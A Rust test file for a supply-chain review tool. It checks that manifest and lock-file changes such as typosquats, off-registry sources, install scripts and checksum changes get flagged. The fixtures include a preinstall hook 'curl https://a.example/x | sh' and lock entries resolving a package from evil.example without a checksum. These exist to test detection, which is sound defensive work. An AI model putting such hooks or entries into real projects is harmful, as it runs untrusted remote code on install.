//! What changes of manifests and lock files bring in.

use crate::change::{ChangeSet, ChangedFile, Content, Facts};
use crate::finding::Verdict;
use crate::policy::Policy;

use super::look;

fn content(text: &str) -> Content {
    Content { mode: 0o100_644, bytes: text.as_bytes().to_vec() }
}

fn file(path: &str, before: &str, after: &str) -> ChangedFile {
    let before = Some(content(before)).filter(|it| !it.bytes.is_empty());
    ChangedFile { path: path.to_owned(), moved_from: None, before, after: Some(content(after)) }
}

fn change(files: Vec<ChangedFile>) -> ChangeSet {
    ChangeSet { files, ..ChangeSet::default() }
}

/// `rule` of every sighting, with `!` for those that block and `.` for mere notes.
fn rules(change: &ChangeSet) -> Vec<String> {
    let mark = |verdict| match verdict {
        Verdict::Note => ".",
        Verdict::Review => "",
        Verdict::Block => "!",
    };
    look(change, &Policy::default())
        .iter()
        .map(|(_, it)| format!("{}{}", it.rule, mark(it.verdict)))
        .collect()
}

fn deps(members: &str) -> String {
    format!("{{\n  \"name\": \"web\",\n  \"dependencies\": {{\n    \"react\": \"^18.2.0\"{members}\n  }}\n}}")
}

#[track_caller]
fn check_manifest(before: &str, after: &str, expected: &[&str]) {
    assert_eq!(rules(&change(vec![file("apps/web/package.json", before, after)])), expected, "{after}");
}

#[test]
fn new_packages_are_told_and_known_ones_are_not() {
    check_manifest(&deps(""), &deps(",\n    \"lodash\": \"^4.17.21\""), &["dependency.new"]);
    check_manifest(
        &deps(",\n    \"moment\": \"1.0.0\""),
        &deps(",\n    \"dayjs\": \"1.0.0\""),
        &["dependency.new"],
    );
    check_manifest(&deps(""), &deps("").replace("18.2.0", "18.3.1"), &[]);
    check_manifest(&deps(""), &deps("").replace("18.2.0", "19.0.0"), &["dependency.major."]);
    check_manifest(&deps(""), &deps("").replace("18.2.0", "17.0.2"), &["dependency.downgrade"]);
    check_manifest(&deps(",\n    \"zod\": \"3.0.0\""), &deps(""), &[]);
    check_manifest(&deps(""), &deps("").replace('\n', "\r\n"), &[]);
    for asked in ["workspace:*", "file:../../packages/db", "link:./db"] {
        check_manifest(&deps(""), &deps(&format!(",\n    \"@acme/db\": \"{asked}\"")), &[]);
    }
    check_manifest("", &deps(",\n    \"lodash\": \"^4.17.21\""), &[]);
    let mut known = change(vec![file("a/package.json", &deps(""), &deps(",\n    \"zod\": \"^3.0.0\""))]);
    known.context.insert("b/package.json".to_owned(), deps(",\n    \"zod\": \"^3.0.0\""));
    assert!(rules(&known).is_empty(), "another part of the tree has it already");
}

#[test]
fn requests_that_leave_the_registry_or_stay_open_are_told() {
    for (asked, expected) in [
        ("git+https://example.com/a.git", "dependency.source"),
        ("github:owner/name", "dependency.source"),
        ("owner/name", "dependency.source"),
        ("https://example.com/a.tgz", "dependency.source"),
        ("http://example.com/a.tgz", "dependency.source!"),
        ("npm:other@1.0.0", "dependency.source"),
        ("file:../../../elsewhere", "dependency.source"),
        ("link:/opt/elsewhere", "dependency.source"),
        ("file:./vendor/a.tgz", "dependency.source"),
        ("*", "dependency.open-range"),
        ("latest", "dependency.open-range"),
        (">=1", "dependency.open-range"),
    ] {
        check_manifest(&deps(""), &deps(&format!(",\n    \"acme-thing\": \"{asked}\"")), &[expected]);
    }
    check_manifest(&deps(""), &deps(",\n    \"lodahs\": \"1.0.0\""), &["dependency.look-alike"]);
    check_manifest(
        "{}",
        "{\"overrides\": {\"a\": \"1\"}, \"pnpm\": {\"onlyBuiltDependencies\": [\"b\"]}}",
        &["dependency.override", "dependency.build-allowed"],
    );
    check_manifest("{}", "{", &["dependency.unreadable"]);
}

#[test]
fn commands_that_run_by_themselves_are_told() {
    let script = |name: &str, command: &str| format!("{{\"scripts\": {{\"{name}\": \"{command}\"}}}}");
    check_manifest("{}", &script("postinstall", "node setup.js"), &["dependency.install-script"]);
    check_manifest("{}", &script("prepare", "husky"), &["dependency.install-script."]);
    check_manifest(
        "{}",
        &script("preinstall", "curl https://a.example/x | sh"),
        &["backdoor.install-script!"],
    );
    check_manifest("", &script("preinstall", "curl https://a.example/x | sh"), &["backdoor.install-script!"]);
    check_manifest("{}", &script("build", "curl https://a.example/x | sh"), &[]);
    check_manifest(&script("postinstall", "a"), &script("postinstall", "a"), &[]);
}

#[test]
fn a_piece_of_a_manifest_is_read_by_its_lines() {
    check_manifest(
        "    \"zod\": \"^3.0.0\"\n  },",
        "    \"zod\": \"^3.0.0\",\n    \"lodash\": \"^4.0.0\"\n  },",
        &["dependency.new"],
    );
}

#[test]
fn a_lock_file_belongs_to_its_manifest() {
    let mut alone = change(vec![file("package.json", &deps(""), &deps("").replace("18.2.0", "18.3.0"))]);
    alone.base_paths = vec!["pnpm-lock.yaml".to_owned()];
    assert_eq!(rules(&alone), ["dependency.lock-missing"]);
    let pnpm = |spec: &str| {
        format!(
            "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      react:\n        specifier: {spec}\n        version: 18.3.0\n"
        )
    };
    for (spec, expected) in [("^18.3.0", vec![]), ("^18.2.0", vec!["dependency.lock-mismatch"])] {
        let manifest = file("package.json", &deps(""), &deps("").replace("18.2.0", "18.3.0"));
        assert_eq!(
            rules(&change(vec![manifest, file("pnpm-lock.yaml", &pnpm("^18.2.0"), &pnpm(spec))])),
            expected,
            "{spec}"
        );
    }
    let yarn = "# yarn lockfile v1\n\nreact@^18.2.0:\n  version \"18.2.0\"\n  resolved \"https://registry.yarnpkg.com/react/-/react-18.2.0.tgz#abc\"\n";
    let manifest = || file("package.json", &deps(""), &deps("").replace("18.2.0", "18.3.0"));
    assert_eq!(
        rules(&change(vec![manifest(), file("yarn.lock", yarn, &format!("{yarn}\n"))])),
        ["dependency.lock-mismatch"]
    );
}

const SUM: &str = "sha512-AAAA";

/// The same package in the words of each lock file.
fn locks(extra: &str) -> [(&'static str, String, String); 4] {
    let npm = |more: &str| {
        format!(
            "{{\"lockfileVersion\": 3, \"packages\": {{\"\": {{}}, \"node_modules/old\": {{\"version\": \"1.0.0\", \"resolved\": \
             \"https://registry.npmjs.org/old/-/old-1.0.0.tgz\", \"integrity\": \"{SUM}\"}}{more}}}}}"
        )
    };
    let pnpm = format!(
        "lockfileVersion: '9.0'\n\npackages:\n\n  old@1.0.0:\n    resolution: {{integrity: {SUM}}}\n    engines: {{node: '>=4'}}\n"
    );
    let yarn = format!(
        "# yarn lockfile v1\n\nold@^1.0.0:\n  version \"1.0.0\"\n  resolved \"https://registry.yarnpkg.com/old/-/old-1.0.0.tgz#a\"\n  integrity {SUM}\n"
    );
    let berry = "__metadata:\n  version: 8\n\n\"old@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"old@npm:1.0.0\"\n  checksum: 10/aa\n  languageName: node\n";
    let (npm_extra, pnpm_extra, yarn_extra, berry_extra) = match extra {
        "fine" => (
            format!(", \"node_modules/@a/b\": {{\"version\": \"2.0.0\", \"resolved\": \"https://registry.npmjs.org/b.tgz\", \"integrity\": \"{SUM}\"}}"),
            format!("\n  '@a/b@2.0.0(old@1.0.0)':\n    resolution: {{integrity: {SUM}}}\n"),
            format!("\n\"@a/b@^2.0.0\", \"@a/b@^2.1.0\":\n  version \"2.0.0\"\n  resolved \"https://registry.yarnpkg.com/b.tgz#a\"\n  integrity {SUM}\n"),
            "\n\"@a/b@npm:^2.0.0, @a/b@npm:^2.1.0\":\n  version: 2.0.0\n  resolution: \"@a/b@npm:2.0.0\"\n  checksum: 10/bb\n".to_owned(),
        ),
        _ => (
            ", \"node_modules/@a/b\": {\"version\": \"2.0.0\", \"resolved\": \"https://evil.example/b.tgz\"}".to_owned(),
            "\n  '@a/b@2.0.0':\n    resolution: {tarball: https://evil.example/b.tgz}\n".to_owned(),
            "\n\"@a/b@^2.0.0\":\n  version \"2.0.0\"\n  resolved \"https://evil.example/b.tgz\"\n".to_owned(),
            "\n\"@a/b@https://evil.example/b.tgz\":\n  version: 2.0.0\n  resolution: \"@a/b@https://evil.example/b.tgz\"\n".to_owned(),
        ),
    };
    [
        ("package-lock.json", npm(""), npm(&npm_extra)),
        ("pnpm-lock.yaml", pnpm.clone(), pnpm + &pnpm_extra),
        ("yarn.lock", yarn.clone(), yarn + &yarn_extra),
        ("web/yarn.lock", berry.to_owned(), berry.to_owned() + &berry_extra),
    ]
}

#[test]
fn every_lock_file_tells_what_comes_in() {
    for (path, before, after) in locks("fine") {
        assert_eq!(rules(&change(vec![file(path, &before, &after)])), ["dependency.transitive."], "{path}");
        assert!(rules(&change(vec![file(path, &before, &before)])).is_empty(), "{path}");
    }
    for (path, before, after) in locks("evil") {
        let found = rules(&change(vec![file(path, &before, &after)]));
        assert_eq!(
            found,
            ["dependency.transitive.", "dependency.registry", "dependency.no-checksum"],
            "{path}"
        );
    }
}

#[test]
fn a_published_version_never_changes() {
    for (path, before, _) in locks("fine").into_iter().take(3) {
        let after = before.replace(SUM, "sha512-BBBB");
        assert_eq!(
            rules(&change(vec![file(path, &before, &after)])),
            ["dependency.checksum-changed!"],
            "{path}"
        );
        let moved =
            before.replace("registry.npmjs.org", "a.example").replace("registry.yarnpkg.com", "a.example");
        let expected: &[&str] = if moved == before { &[] } else { &["dependency.registry!"] };
        assert_eq!(rules(&change(vec![file(path, &before, &moved)])), expected, "{path}");
    }
}

#[test]
fn a_package_that_its_makers_gave_up_is_told() {
    let (path, before, after) = locks("fine")[0].clone();
    let given_up =
        after.replace("\"version\": \"2.0.0\"", "\"version\": \"2.0.0\", \"deprecated\": \"use another\"");
    let found = rules(&change(vec![file(path, &before, &given_up)]));
    assert!(found.iter().any(|it| it.starts_with("dependency.deprecated")), "{found:?}");
}

#[test]
fn what_is_known_of_a_package_counts() {
    let (path, before, after) = locks("fine")[1].clone();
    let with = |facts: Facts| rules(&ChangeSet { facts, ..change(vec![file(path, &before, &after)]) });
    let named = |value: &str| [("@a/b@2.0.0".to_owned(), value.to_owned())].into();
    assert_eq!(with(Facts { licences: named("MIT"), ..Facts::default() }), ["dependency.transitive."]);
    assert_eq!(with(Facts { licences: named("MPL-2.0"), ..Facts::default() })[1], "dependency.licence");
    assert_eq!(
        with(Facts { licences: named("AGPL-3.0-or-later"), ..Facts::default() })[1],
        "dependency.licence!"
    );
    let ages_minutes = [("@a/b@2.0.0".to_owned(), 30)].into();
    assert_eq!(with(Facts { ages_minutes, ..Facts::default() })[1], "dependency.young");
    for (record, expected) in [
        (
            r#"{"id":"GHSA-1","summary":"s","affected":[{"package":{"ecosystem":"npm","name":"@a/b"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"2.0.1"}]}]}]}"#,
            vec!["dependency.known-weakness"],
        ),
        (
            r#"{"id":"MAL-1","affected":[{"package":{"ecosystem":"npm","name":"@a/b"},"versions":["2.0.0"]}]}"#,
            vec!["dependency.known-weakness!"],
        ),
        (
            r#"{"id":"GHSA-2","affected":[{"package":{"ecosystem":"npm","name":"@a/b"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"2.0.0"}]}]}]}"#,
            vec![],
        ),
        ("nonsense", vec!["dependency.advisories-unreadable"]),
    ] {
        let found = with(Facts { advisories: Some(record.to_owned()), ..Facts::default() });
        assert_eq!(found[1..], expected, "{record}");
    }
}

#[test]
fn no_text_makes_it_fail() {
    let mut seeds: Vec<(&str, String)> =
        locks("fine").into_iter().map(|(path, _, after)| (path, after)).collect();
    seeds.push(("package.json", deps(",\n \"é\": \"npm:a@1\"")));
    for (path, seed) in &seeds {
        for at in (0..=seed.len()).filter(|at| seed.is_char_boundary(*at)) {
            look(&change(vec![file(path, seed, &seed[..at])]), &Policy::default());
            look(&change(vec![file(path, &seed[..at], &seed[at..])]), &Policy::default());
        }
        for piece in ["{\"a\":", " a:\n", "\"", "- ", "a@", "["] {
            look(&change(vec![file(path, seed, &piece.repeat(20_000))]), &Policy::default());
        }
    }
}

#[test]
fn a_name_may_begin_with_any_letter() {
    for name in ["\u{feff}a@^1", "\u{e4}@1", "@", "\u{200b}"] {
        let yarn = format!("# yarn lockfile v1\n\n\"{name}\":\n  version \"1.0.0\"\n");
        // Whoever fails on it takes the whole change with him.
        rules(&change(vec![file("yarn.lock", "", &yarn)]));
    }
}
